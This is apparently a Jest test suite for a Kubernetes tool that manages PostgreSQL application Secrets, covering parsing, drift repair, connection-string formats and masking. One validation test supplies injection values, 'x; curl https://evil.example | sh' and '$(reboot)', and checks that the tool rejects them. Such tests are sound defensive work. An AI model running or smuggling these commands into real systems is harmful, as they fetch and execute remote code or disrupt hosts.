import { afterEach, describe, expect, test } from '@jest/globals'
import type { Metadata } from '../../../src/kubernetes/objects.ts'
import { Failure } from '../../../src/lib/failure.ts'
import {
  parseApplicationSecret,
  type ApplicationKey,
  type ApplicationSecret,
  type ApplicationValues,
} from '../../../src/secrets/application-secret.ts'
import type { FormatName } from '../../../src/secrets/formats.ts'
import { notesOn, planSecret, type SecretPlan, type WantedSecret } from '../../../src/secrets/plan-secret.ts'
import { createApplicationSecret, repairApplicationSecret } from '../../../src/secrets/write-secret.ts'
import { json, serve, type TestServer } from '../kubernetes/server.ts'

const values = {
  PGHOST: 'pg.db.svc',
  PGPORT: '5432',
  PGUSER: 'shop',
  PGPASSWORD: 'the-password',
  PGDATABASE: 'shop',
  PGSSLMODE: 'require',
} satisfies ApplicationValues

const base64 = (text: string): string => Buffer.from(text).toString('base64')

function parse(
  found: Record<string, string>,
  metadata: Metadata = {},
  masks: string[] = [],
): ApplicationSecret {
  const data = Object.fromEntries(Object.entries(found).map(([key, value]) => [key, base64(value)]))
  const secret = { metadata: { uid: 'u1', resourceVersion: '7', ...metadata }, data }
  return parseApplicationSecret('shop', 'app', secret, (credential) => masks.push(credential))
}

const written = (record: object): Metadata => ({
  annotations: { 'pg-app-user.elastisys.io/last-written': JSON.stringify(record) },
})

describe('reading', () => {
  test('only our keys are read, an empty one is missing, the password is masked', () => {
    const masks: string[] = []
    const secret = parse({ ...values, PGPORT: '', OTHER: 'x' }, written({ PGHOST: 'h', n: 1 }), masks)
    expect(secret.values).toEqual({ ...values, PGPORT: undefined })
    expect(secret.lastWritten).toEqual({ PGHOST: 'h' })
    expect(masks).toEqual(['the-password'])
  })

  test.each([
    [{ PGUSER: 'shop\n' }, 'PGUSER ends with a line end'],
    [{ PGPASSWORD: 'x\n' }, 'PGPASSWORD ends with a line end'],
    [
      { PGHOST: 'a\tb', PGDATABASE: '\0' },
      'PGDATABASE holds a NUL character; PGHOST holds a control character',
    ],
  ])('%p is refused', (broken, words) => {
    const failure = (): unknown => parse({ ...values, ...broken })
    expect(failure).toThrow(words)
    expect(failure).toThrow(expect.objectContaining({ code: 'secret-invalid' }))
  })

  test.each(['', 'no json', '[1', 'null', '"text"'])('an annotation of %p is nobody’s word', (annotation) => {
    const annotations = { 'pg-app-user.elastisys.io/last-written': annotation }
    expect(parse(values, { annotations }).lastWritten).toBeUndefined()
  })

  test.each([
    ['app-postgresql-secret-binding', 'app-postgresql-secret-binding'],
    ['x; curl https://evil.example | sh', undefined],
    ['$(reboot)', undefined],
    ['-A', undefined],
    ['', undefined],
  ])('an annotation that names the service binding %j gives %j', (name, binding) => {
    const annotations = { 'pg-app-user.elastisys.io/service-binding': name }
    expect(parse(values, { annotations }).binding).toBe(binding)
  })

  test.each<[Metadata, string | undefined]>([
    [{}, undefined],
    [{ labels: { 'app.kubernetes.io/managed-by': 'pg-app-user' } }, undefined],
    [{ labels: { 'app.kubernetes.io/managed-by': 'Helm' } }, '"Helm"'],
    [{ annotations: { 'meta.helm.sh/release-name': 'shop' } }, 'Helm release "shop"'],
    [{ ownerReferences: [{ kind: 'SealedSecret', name: 'app' }] }, 'SealedSecret "app"'],
    [
      {
        ownerReferences: [
          { kind: 'A', name: 'a' },
          { kind: 'B', name: 'b', controller: true },
        ],
      },
      'B "b"',
    ],
    [
      { annotations: { 'argocd.argoproj.io/tracking-id': 'shop:/Secret:shop/app' } },
      'Argo CD application "shop:/Secret:shop/app"',
    ],
    [{ labels: { 'argocd.argoproj.io/instance': 'shop' } }, 'Argo CD application "shop"'],
    [{ labels: { 'kustomize.toolkit.fluxcd.io/name': 'apps' } }, 'Flux Kustomization "apps"'],
    [{ labels: { 'helm.toolkit.fluxcd.io/name': 'shop' } }, 'Flux HelmRelease "shop"'],
    [{ labels: { 'reconcile.external-secrets.io/managed': 'true' } }, 'External Secrets'],
    [{ annotations: { 'reconcile.external-secrets.io/data-hash': 'f00' } }, 'External Secrets'],
    [{ annotations: { 'sealedsecrets.bitnami.com/managed': 'true' } }, 'Sealed Secrets'],
    [{ annotations: { 'reflector.v1.k8s.emberstack.com/reflects': 'a/b' } }, 'Reflector, from "a/b"'],
    [{ annotations: { 'replicator.v1.mittwald.de/replicate-from': 'a/b' } }, 'Replicator, from "a/b"'],
    [{ annotations: { 'replicator.v1.mittwald.de/replicated-from-version': '12' } }, 'Replicator'],
  ])('who keeps %j: %p', (metadata, owner) => {
    expect(parse(values, metadata).owner).toBe(owner)
  })

  const changedAt = (time: string): Metadata['annotations'] => ({
    'pg-app-user.elastisys.io/credential-changed': time,
  })
  const passwordOf = (manager: string, time: string): object => ({
    manager,
    time,
    fieldsV1: { 'f:data': { 'f:PGPASSWORD': {} } },
  })
  test.each<[string, object, string | undefined]>([
    ['as old as the Secret', { creationTimestamp: '2026-11-20T10:00:00Z' }, '2026-11-20T10:00:00.000Z'],
    [
      'changed by us, in whole seconds, as a Pod tells its age',
      { creationTimestamp: '2026-11-20T10:00:00Z', annotations: changedAt('2026-11-21T10:00:00.987Z') },
      '2026-11-21T10:00:00.000Z',
    ],
    [
      'changed by somebody else',
      {
        annotations: changedAt('2026-11-21T10:00:00.000Z'),
        managedFields: [passwordOf('kubectl-edit', '2026-11-22T10:00:00Z')],
      },
      '2026-11-22T10:00:00.000Z',
    ],
    [
      'another key was repaired by us',
      {
        annotations: changedAt('2026-11-21T10:00:00.000Z'),
        managedFields: [passwordOf('pg-app-user', '2026-11-22T10:00:00Z')],
      },
      '2026-11-21T10:00:00.000Z',
    ],
    ['no time', { annotations: changedAt('yesterday') }, undefined],
  ])('when the password was written: %s', (_, metadata, time) => {
    expect(parse(values, metadata as Metadata).credentialChanged?.toISOString()).toBe(time)
  })
})

describe('planning', () => {
  function plan(
    found: Record<string, string> | undefined,
    {
      wanted = {},
      explicit = [],
      metadata = {},
      immutable = false,
      formats = [],
    }: {
      wanted?: ApplicationValues
      explicit?: ApplicationKey[]
      metadata?: Metadata
      immutable?: boolean
      formats?: FormatName[]
    } = {},
  ): ReturnType<typeof planSecret> {
    const current = found && { ...parse(found, metadata), immutable }
    return planSecret(current, {
      formats,
      namespace: 'shop',
      name: 'app',
      values: { ...values, ...wanted },
      explicit: new Set(explicit),
    })
  }

  test('none: create', () => {
    expect(plan(undefined)).toEqual({ kind: 'create', values })
  })

  test('all up to date, with keys of others: keep', () => {
    expect(plan({ ...values, OTHER: 'x' })).toEqual({ kind: 'keep', kept: [], left: [] })
  })

  test('a password that is there is the truth', () => {
    expect(plan({ ...values, PGPASSWORD: 'another' })).toEqual({ kind: 'keep', kept: [], left: [] })
  })

  test('missing keys are filled, and nothing else is written', () => {
    const { PGPASSWORD, PGPORT, ...rest } = values
    expect(plan(rest)).toEqual({
      kind: 'repair',
      values: { PGPASSWORD, PGPORT },
      missing: ['PGPORT', 'PGPASSWORD'],
      replaced: [],
      kept: [],
      left: [],
    })
  })

  test('a value made by hand stays, unless an input asks for another', () => {
    const found = { ...values, PGSSLMODE: 'no-verify' }
    expect(plan(found)).toEqual({ kind: 'keep', kept: ['PGSSLMODE'], left: [] })
    expect(plan(found, { metadata: written({ PGSSLMODE: 'require' }) })).toEqual({
      kind: 'keep',
      kept: ['PGSSLMODE'],
      left: [],
    })
    expect(plan(found, { explicit: ['PGSSLMODE'] })).toMatchObject({
      kind: 'repair',
      values: { PGSSLMODE: 'require' },
      replaced: ['PGSSLMODE'],
    })
  })

  test('a value of ours follows the access Secret', () => {
    const wanted = { PGPORT: '6432', 'ca.crt': 'new' }
    const ca = 'sha256:84f36e28be8ab41d5b56cc36f9f8b1f5f0a2d1b3bf1e5ae4bd0bba9ee9c4b1a8'
    expect(plan(values, { wanted, metadata: written({ PGPORT: '5432', 'ca.crt': ca }) })).toMatchObject({
      kind: 'repair',
      values: { PGPORT: '6432', 'ca.crt': 'new' },
      missing: ['ca.crt'],
      replaced: ['PGPORT'],
    })
  })

  test.each<[Partial<typeof values>, string, string]>([
    [{ PGUSER: 'billing' }, 'PGUSER "billing", this run "shop"', 'app-secret: shop-postgresql-secret'],
    [
      { PGUSER: 'b', PGDATABASE: 'b' },
      'PGUSER "b", this run "shop"; PGDATABASE "b", this run "shop"',
      'app-secret: shop',
    ],
    [{ PGHOST: '10.0.0.1' }, 'PGHOST "10.0.0.1", this run "pg.db.svc"', 'moved'],
  ])('%p names something else', (changed, words, hint) => {
    const failure = plan({ ...values, ...changed }, { explicit: ['PGSSLMODE'] })
    expect(failure).toBeInstanceOf(Failure)
    expect(failure).toMatchObject({ code: 'secret-names-other', message: expect.stringContaining(words) })
    expect((failure as Failure).hint.join(' ')).toContain(hint)
  })

  test.each<[Record<string, string>, string]>([
    [{ PGUSER: base64('shop-of-kim'), PGDATABASE: '"shop"' }, 'PGDATABASE has quotes around it'],
    [{ PGHOST: base64('pg.db.svc') }, 'PGHOST was encoded twice'],
    [{ PGHOST: '${PGHOST}' }, 'PGHOST is a variable that nothing replaced'],
    [{ PGHOST: '[fd00::2]' }, 'PGHOST has an IPv6 address in brackets'],
    [{ PGUSER: 'postgres://shop:hunter2-dummy@pg' }, 'PGUSER is a URL (postgres://…), not a name'],
    [{ PGUSER: 'user=shop password=hunter2-dummy' }, 'PGUSER is a connection string, not a name'],
    [{ PGUSER: 'hunter2-dummy', PGPASSWORD: 'shop' }, 'PGUSER and PGPASSWORD are swapped'],
    [{ PGDATABASE: '<database>', PGHOST: '' }, 'PGDATABASE is a blank that nobody filled in'],
  ])('%p names nothing', (changed, words) => {
    const failure = plan({ ...values, ...changed })
    expect(failure).toMatchObject({ code: 'secret-invalid', message: expect.stringContaining(words) })
    expect([(failure as Failure).message, ...(failure as Failure).hint].join(' ')).not.toContain('hunter2')
  })

  test('somebody else’s Secret, or an immutable one, is refused only if it would have to change', () => {
    const metadata = { annotations: { 'meta.helm.sh/release-name': 'shop' } }
    const rest: Record<string, string> = { ...values, PGPORT: '' }
    expect(plan(values, { metadata, immutable: true })).toMatchObject({ kind: 'keep' })
    expect(plan(rest, { metadata })).toMatchObject({
      code: 'secret-managed-elsewhere',
      message: 'shop/app would need a change of PGPORT, and Helm release "shop" manages this Secret.',
    })
    expect(plan(rest, { immutable: true })).toMatchObject({ code: 'secret-immutable' })
  })

  test('a Secret that is being deleted is refused only if it would have to change', () => {
    const metadata = { deletionTimestamp: '2026-11-22T14:03:11Z' }
    expect(plan(values, { metadata })).toMatchObject({ kind: 'keep' })
    expect(plan({ ...values, PGPORT: '' }, { metadata })).toMatchObject({
      code: 'secret-invalid',
      message: 'shop/app would need a change of PGPORT, and it is being deleted.',
    })
  })
})

describe('further forms', () => {
  const url = 'postgresql://shop:the-password@pg.db.svc:5432/shop?sslmode=require'
  const wanted = (formats: FormatName[], changed: ApplicationValues = {}): WantedSecret => ({
    namespace: 'shop',
    name: 'app',
    values: { ...values, ...changed },
    explicit: new Set(),
    formats,
  })
  const planned = (found: Record<string, string>, want: WantedSecret, record: object = {}): SecretPlan => {
    const plan = planSecret(parse({ ...values, ...found }, written(record)), want)
    if (plan instanceof Failure) throw plan
    return plan
  }

  test('are written with a new Secret, and filled in where they are asked for later', () => {
    expect(planSecret(undefined, wanted(['url']))).toEqual({
      kind: 'create',
      values: { ...values, DATABASE_URL: url },
    })
    expect(planned({}, wanted(['url']))).toMatchObject({ kind: 'repair', values: { DATABASE_URL: url } })
    expect(planned({ DATABASE_URL: url }, wanted(['url']), { DATABASE_URL: 'derived' })).toMatchObject({
      kind: 'keep',
    })
  })

  test('several stand side by side', () => {
    const plan = planned({}, wanted(['url', 'jdbc', 'dotnet']))
    expect(plan).toMatchObject({
      missing: [
        'DATABASE_URL',
        'SPRING_DATASOURCE_URL',
        'SPRING_DATASOURCE_USERNAME',
        'SPRING_DATASOURCE_PASSWORD',
        'ConnectionStrings__Default',
      ],
    })
  })

  test('follow the password that is there, which is the truth, and what is repaired in the same run', () => {
    expect(planned({ PGPASSWORD: 'of old' }, wanted(['url']))).toMatchObject({
      values: { DATABASE_URL: url.replace('the-password', 'of%20old') },
    })
    const want = wanted(['url'], { PGPORT: '6432' })
    const record = { PGPORT: '5432', DATABASE_URL: 'derived' }
    expect(planned({ DATABASE_URL: url }, want, record)).toMatchObject({
      values: { PGPORT: '6432', DATABASE_URL: url.replace('5432', '6432') },
    })
  })

  test('one that this tool wrote and that was changed is drift', () => {
    const found = { DATABASE_URL: url.replace('the-password', 'another') }
    expect(planned(found, wanted(['url']), { DATABASE_URL: 'derived' })).toMatchObject({
      kind: 'repair',
      values: { DATABASE_URL: url },
      replaced: ['DATABASE_URL'],
    })
  })

  test('one that was there before stays, and is named', () => {
    const want = wanted(['url'])
    const plan = planned({ DATABASE_URL: 'mysql://elsewhere' }, want)
    expect(plan).toEqual({ kind: 'keep', kept: ['DATABASE_URL'], left: [] })
    expect(notesOn(plan, want)).toEqual([
      'DATABASE_URL of shop/app was set by hand and differs from what input "secret-format" asks for; to have this tool write it, remove it',
    ])
  })

  test('one that is no longer asked for stays, and is named; one that never was is not looked at', () => {
    const want = wanted([])
    const plan = planned({ DATABASE_URL: url }, want, { DATABASE_URL: 'derived' })
    expect(plan).toEqual({ kind: 'keep', kept: [], left: ['DATABASE_URL'] })
    expect(notesOn(plan, want)).toEqual([
      'DATABASE_URL of shop/app stays, and is not kept up to date: input "secret-format" no longer asks for it',
    ])
    const foreign = planned({ DATABASE_URL: 'whatever\n' }, want)
    expect([foreign, notesOn(foreign, want)]).toEqual([{ kind: 'keep', kept: [], left: [] }, []])
  })

  test.each([
    [{ username: 'shop', password: 'by hand' }, 'username and password'],
    [{ DATABASE_URL: url, k1: '1', k2: '2', k3: '3', k4: '4' }, 'DATABASE_URL, k1, k2, k3 and 1 more'],
  ])(
    'a new password beside keys of others: %j are named, because they may hold another one',
    (found, named) => {
      const want = wanted([])
      const plan = planSecret(parse(found), want)
      if (plan instanceof Failure) throw plan
      expect(notesOn(plan, want)).toEqual([
        `shop/app holds other keys too (${named}), which stay as they are: whoever reads a password there does not get the new one`,
      ])
      const known = planSecret(parse({ ...found, PGPASSWORD: 'of old' }), want)
      expect(known instanceof Failure ? known : notesOn(known, want)).toEqual([])
    },
  )

  test('what holds a credential is masked as it is read, and what holds names is not', () => {
    const masks: string[] = []
    parse(
      {
        PGUSER: 'shop',
        DATABASE_URL: 'postgresql://u:p%40ss@h/d',
        SPRING_DATASOURCE_URL: 'jdbc:postgresql://h/d',
        SPRING_DATASOURCE_USERNAME: 'shop',
        SPRING_DATASOURCE_PASSWORD: 'of spring',
        ConnectionStrings__Default: 'Password=of-dotnet',
      },
      {},
      masks,
    )
    expect(masks).toEqual(['postgresql://u:p%40ss@h/d', 'p%40ss', 'p@ss', 'of spring', 'Password=of-dotnet'])
  })
})

describe('writing', () => {
  let server: TestServer
  afterEach(() => server.close())

  test('create: data in base64, never stringData, and no password in the annotation', async () => {
    server = await serve((_, response) => {
      json(response, 201, { metadata: { uid: 'u', resourceVersion: '8' } })
    })
    expect(
      await createApplicationSecret(await server.api(), 'shop', 'app', { ...values, 'ca.crt': 'pem' }),
    ).toEqual({
      uid: 'u',
      resourceVersion: '8',
    })
    const sent = server.requests[0]
    expect(sent).toMatchObject({ method: 'POST', url: '/api/v1/namespaces/shop/secrets' })
    const body = JSON.parse(sent?.body ?? '') as { data: object; metadata: Metadata; type: string }
    expect(body.type).toBe('Opaque')
    expect(body.data).toMatchObject({ PGPASSWORD: base64('the-password') })
    expect(body.metadata.labels).toEqual({ 'app.kubernetes.io/managed-by': 'pg-app-user' })
    expect(sent?.body).not.toContain('the-password')
    expect(body.metadata.annotations?.['pg-app-user.elastisys.io/last-written']).toMatch(
      /"ca.crt":"sha256:[0-9a-f]{64}"/,
    )
  })

  test('neither a password nor what is made of it gets into the annotation', async () => {
    server = await serve((_, response) => {
      json(response, 201, { metadata: { uid: 'u', resourceVersion: '8' } })
    })
    const derived = {
      DATABASE_URL: 'postgresql://shop:the-password@h/d',
      SPRING_DATASOURCE_PASSWORD: 'the-password',
    }
    await createApplicationSecret(await server.api(), 'shop', 'app', { ...values, ...derived })
    const { metadata } = JSON.parse(server.requests[0]?.body ?? '') as { metadata: Metadata }
    expect(JSON.stringify(metadata)).not.toContain('the-password')
    expect(JSON.stringify(metadata)).toContain('DATABASE_URL')
  })

  test('repair: guarded by uid and resourceVersion, the annotation keeps what was written before', async () => {
    server = await serve((_, response) => {
      json(response, 200, { metadata: { uid: 'u1', resourceVersion: '8' } })
    })
    const current = parse(values, written({ PGHOST: 'pg.db.svc' }))
    expect(await repairApplicationSecret(await server.api(), current, { PGPORT: '6432' })).toEqual({
      uid: 'u1',
      resourceVersion: '8',
    })
    expect(server.requests[0]).toMatchObject({
      method: 'PATCH',
      headers: { 'content-type': 'application/merge-patch+json' },
    })
    expect(JSON.parse(server.requests[0]?.body ?? '')).toEqual({
      metadata: {
        uid: 'u1',
        resourceVersion: '7',
        labels: { 'app.kubernetes.io/managed-by': 'pg-app-user' },
        ...written({ PGHOST: 'pg.db.svc', PGPORT: '6432' }),
      },
      data: { PGPORT: base64('6432') },
    })
  })

  test.each([
    [409, 'conflict', 'conflict'],
    [404, 'secret-write-refused', 'conflict'],
    [403, 'secret-write-refused', 'secret-write-refused'],
    [422, 'secret-write-refused', 'secret-write-refused'],
  ])('%i: create %s, repair %s', async (status, create, repair) => {
    server = await serve((request, response) => {
      if (request.method === 'GET') json(response, 200, { data: { PGPASSWORD: base64('of somebody else') } })
      else json(response, status, { message: 'exceeded\nquota' })
    })
    const api = await server.api()
    const outcome = (result: unknown): unknown => (result instanceof Failure ? result.code : result)
    const created = await createApplicationSecret(api, 'shop', 'app', values).catch((error: unknown) => error)
    const repaired = await repairApplicationSecret(api, parse(values), { PGPORT: '1' }).catch(
      (error: unknown) => error,
    )
    expect([outcome(created), outcome(repaired)]).toEqual([create, repair])
    if (created instanceof Failure) expect(created.message).toContain('"exceeded quota"')
  })

  test('409: what was sent again because its connection broke meets itself', async () => {
    const metadata = { uid: 'u1', resourceVersion: '8' }
    const data = Object.fromEntries(
      Object.entries({ ...values, PGPORT: '1' }).map(([key, value]) => [key, base64(value)]),
    )
    server = await serve((request, response) => {
      if (request.method === 'GET') json(response, 200, { metadata, data })
      else json(response, 409, { message: 'conflict' })
    })
    const api = await server.api()
    expect(await createApplicationSecret(api, 'shop', 'app', { ...values, PGPORT: '1' })).toEqual(metadata)
    expect(await repairApplicationSecret(api, parse(values), { PGPORT: '1' })).toEqual(metadata)
    expect(await repairApplicationSecret(api, parse(values), { PGPORT: '2' })).toBe('conflict')
  })
})
